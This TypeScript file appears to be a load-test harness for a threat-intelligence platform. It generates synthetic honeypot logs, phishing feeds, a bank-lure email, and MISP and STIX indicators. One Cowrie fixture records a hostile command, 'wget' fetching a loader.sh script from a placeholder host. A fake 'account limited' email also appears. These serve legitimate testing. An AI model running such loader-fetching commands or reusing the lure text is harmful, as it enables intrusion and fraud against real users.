import { nowSeconds } from "../../lib/clock.ts";
import { loadPublicKey } from "../../lib/envelope/key_file.ts";
import type { PublicKey } from "../../lib/envelope/key.ts";
import { org } from "../../lib/identity/org.ts";
import { user } from "../../lib/identity/user.ts";
import { sleep } from "../../lib/sleep.ts";
import { attribute } from "../../lib/tahoe/attribute.ts";
import { event } from "../../lib/tahoe/event.ts";
import type { Hash } from "../../lib/tahoe/instance.ts";
import type { Fields } from "../../lib/tahoe/value.ts";
import { sealQuery } from "../../lib/tdql/seal_query.ts";
import type { Installation } from "./installation.ts";
import { LONG } from "./long.ts";

/** Milliseconds of a round: one upload of each typetag, and two questions. */
const ROUND = 1000;

/** Rounds between an upload and the questions about it. */
const LATER = LONG ? 10 : 4;

/** Time of round 0's events, in seconds since 1970. */
const EPOCH = 1_700_000_000;

const never = new AbortController().signal;

/**
 * The load of an ordinary day: six uploads and two questions per second, evenly spread. Each round
 * has different data, and nothing that is asked about connects two rounds, so that the answers do
 * not grow.
 */
export class SteadyLoad {
  uploads = 0;
  questions = 0;
  /** Callers that were notified of an answer. */
  notified = 0;
  #step = 0;
  readonly #closing = new AbortController();
  readonly #installation: Installation;
  readonly #userid: Hash;
  readonly #orgid: Hash;
  readonly #key: PublicKey;
  readonly #listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  /** The steps of a round, in order. */
  readonly #steps: readonly ((round: number) => Promise<void>)[];

  private constructor(
    installation: Installation,
    { userid, orgid, key }: { userid: Hash; orgid: Hash; key: PublicKey },
  ) {
    this.#installation = installation;
    this.#userid = userid;
    this.#orgid = orgid;
    this.#key = key;
    const uploads = Object.entries(UPLOADS).map(([typetag, write]) => (round: number) =>
      this.#upload(typetag, write(round))
    );
    this.#steps = [
      ...uploads.slice(0, 3),
      (round) => this.#ask(2 * round),
      ...uploads.slice(3),
      (round) => this.#ask(2 * round + 1),
    ];
    this.#listen();
  }

  /** Stores a user and their organisation in the installation. */
  static async prepare(installation: Installation): Promise<SteadyLoad> {
    const { stores, config } = installation;
    const member = user({ email: "analyst@example.com" });
    const members = [member.user];
    const organisation = org({ orgname: "example", users: members, admins: members });
    await stores.identity.put([
      ...member.parts,
      member.user,
      ...organisation.parts,
      organisation.org,
    ]);
    const key = await loadPublicKey(config.archive.publicKey);
    return new SteadyLoad(installation, {
      userid: member.user._hash,
      orgid: organisation.org._hash,
      key,
    });
  }

  /** Runs a number of rounds. */
  async run(rounds: number): Promise<void> {
    const steps = this.#steps.length;
    const first = this.#step;
    const start = Date.now();
    const { signal } = this.#closing;
    for (; this.#step < first + rounds * steps && !signal.aborted; this.#step++) {
      const due = start + (this.#step - first) * ROUND / steps;
      await sleep(Math.max(0, due - Date.now()), signal);
      await this.#steps[this.#step % steps]!(Math.floor(this.#step / steps));
    }
  }

  /**
   * Resolves once everything is archived and answered.
   *
   * @throws {Error} when that takes longer than a minute.
   */
  async untilDone(): Promise<void> {
    const { lake, inbox } = this.#installation.stores;
    for (const deadline = Date.now() + 60_000; Date.now() < deadline;) {
      const now = nowSeconds();
      const [entries, queries] = [await lake.status(now), await inbox.status(now)];
      const { SUCCESS: archived } = entries.counts;
      const { ready: answered } = queries.counts;
      if (archived === this.uploads && answered === this.questions) return;
      await sleep(200, never);
    }
    throw new Error("Not everything was archived and answered");
  }

  close(): void {
    this.#closing.abort();
    this.#listener.close();
  }

  async #upload(typetag: string, text: string): Promise<void> {
    const { stores, upload } = this.#installation;
    const fields = { typetag, orgid: this.#orgid, timestamp: nowSeconds() };
    await stores.lake.submit([await upload(text, fields)]);
    this.uploads++;
  }

  async #ask(number: number): Promise<void> {
    const round = Math.floor(number / 2) - LATER;
    if (round < 0) return;
    const [qtype, question] = this.#question(number % 3, round);
    const { port } = this.#listener.addr as Deno.NetAddr;
    const { query, parts } = await sealQuery(qtype, question, {
      userid: this.#userid,
      key: this.#key,
      socket: { host: "localhost", port: BigInt(port), nonce: `${number}` },
      timestamp: nowSeconds(),
    });
    await this.#installation.stores.inbox.ask(query, parts);
    this.questions++;
  }

  #question(kind: number, round: number): [string, Fields] {
    if (kind === 0) return ["count", { sub_type: "url", data: urlOf(round) }];
    if (kind === 1) return ["related", { sub_type: "ipv4", data: attackerOf(round) }];
    const seen = attribute("url", urlOf(round));
    const { _hash } = event("sighting", [seen], { orgid: this.#orgid, timestamp: EPOCH + round });
    return ["threatrank", { _hash }];
  }

  async #listen(): Promise<void> {
    for await (const connection of this.#listener) {
      using caller = connection;
      const length = await caller.read(new Uint8Array(100)).catch(() => null);
      if (length !== null) this.notified++;
    }
  }
}

function urlOf(round: number): string {
  return `http://example.com/${round}/login`;
}

/** An IPv6 address: there are enough of them for each round to have its own. */
function attackerOf(round: number): string {
  return `2001:db8::${(round >> 16).toString(16)}:${(round & 0xffff).toString(16)}`;
}

function digestOf(round: number): string {
  return round.toString(16).padStart(64, "0");
}

function uuidOf(round: number): string {
  return `00000000-0000-4000-8000-${round.toString(16).padStart(12, "0")}`;
}

/** The upload of a round, by typetag. */
const UPLOADS: { readonly [typetag: string]: (round: number) => string } = {
  sighting: (round) => JSON.stringify({ url: urlOf(round), timestamp: EPOCH + round }),
  cowrie: (round) => {
    const visit = {
      session: round.toString(16).padStart(12, "0"),
      sensor: "honeypot",
      src_ip: attackerOf(round),
      timestamp: new Date((EPOCH + round) * 1000).toISOString(),
    };
    const url = `http://example.net/${round}/loader.sh`;
    return [
      { eventid: "cowrie.session.connect" },
      { eventid: "cowrie.login.failed", username: "root", password: `${round}` },
      { eventid: "cowrie.login.success", username: "admin", password: `${round}` },
      { eventid: "cowrie.command.input", input: `wget ${url}` },
      { eventid: "cowrie.session.file_download", url, shasum: digestOf(round) },
      { eventid: "cowrie.session.closed", duration: 10.5 },
    ].map((record) => JSON.stringify({ ...record, ...visit })).join("\n");
  },
  openphish_feed: (round) =>
    [
      urlOf(round),
      ...Array.from({ length: 9 }, (_, line) => `http://example.org/${round}/${line}`),
    ].join("\n"),
  email: (round) =>
    [
      `From: "Example Bank" <bank-${round}@example.com>`,
      `To: <member-${round}@example.org>`,
      `Subject: Your account ${round} has been limited`,
      `Date: ${new Date((EPOCH + round) * 1000).toUTCString().replace("GMT", "+0000")}`,
      `Message-ID: <${round}@example.com>`,
      "Content-Type: text/plain; charset=utf-8",
      "",
      `Confirm your details at http://example.com/${round}/confirm`,
    ].join("\r\n"),
  misp: (round) => {
    const timestamp = `${EPOCH + round}`;
    const attributes = [
      { type: "domain", value: `${round}.example.com` },
      { type: "sha256", value: digestOf(round) },
    ].map((attribute) => ({ ...attribute, to_ids: true, timestamp }));
    const info = `Campaign ${round}`;
    return JSON.stringify({
      Event: { uuid: uuidOf(round), info, timestamp, Attribute: attributes },
    });
  },
  stix: (round) => {
    const created = new Date((EPOCH + round) * 1000).toISOString();
    const indicator = {
      type: "indicator",
      spec_version: "2.1",
      id: `indicator--${uuidOf(round)}`,
      created,
      modified: created,
      valid_from: created,
      pattern: `[url:value = 'http://example.com/${round}/beacon']`,
      pattern_type: "stix",
      indicator_types: ["malicious-activity"],
    };
    const id = `bundle--${uuidOf(round)}`;
    return JSON.stringify({ type: "bundle", id, objects: [indicator] });
  },
};
